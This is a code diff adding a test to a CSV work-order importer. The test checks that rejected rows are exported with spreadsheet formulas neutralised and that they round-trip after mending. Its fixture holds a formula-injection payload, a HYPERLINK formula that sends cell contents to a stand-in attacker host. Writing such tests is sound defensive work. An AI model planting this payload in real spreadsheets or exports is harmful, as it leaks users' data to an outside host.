@@ -92,6 +92,19 @@ def test_the_file_of_rejected_rows_can_be_mended_and_imported(town: Town, tmp_pa
     assert WorkOrder.objects.count() == 3
 
 
+def test_rejected_cells_are_no_formulas_and_come_back_as_they_were(town: Town, tmp_path: Path) -> None:
+    evil = '=HYPERLINK("http://evil.example/"&A1,"路灯不亮")'
+    result = take(town, write(tmp_path / "a.csv", [row(1, 标题=evil, 联系电话=""), row(2, 联系电话="+1")]))
+    with result.rejects.open(encoding="utf-8-sig", newline="") as file:
+        heads, *bad = list(csv.reader(file))
+    cells = [cell for line in bad for cell in line]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    bad[0][heads.index("联系电话")] = "'+8613812340001"
+    mended = write(tmp_path / "mended.csv", bad[:1], heads=heads, encoding="utf-8-sig")
+    assert take(town, mended).counts == (1, 0, 0)
+    assert WorkOrder.objects.get().title == evil
+
+
 def test_rows_with_the_same_number_are_one_row_or_a_mistake(town: Town, tmp_path: Path) -> None:
     rows = [row(1), row(1), row(1, 标题="另一件事")]
     result = take(town, write(tmp_path / "a.csv", rows))
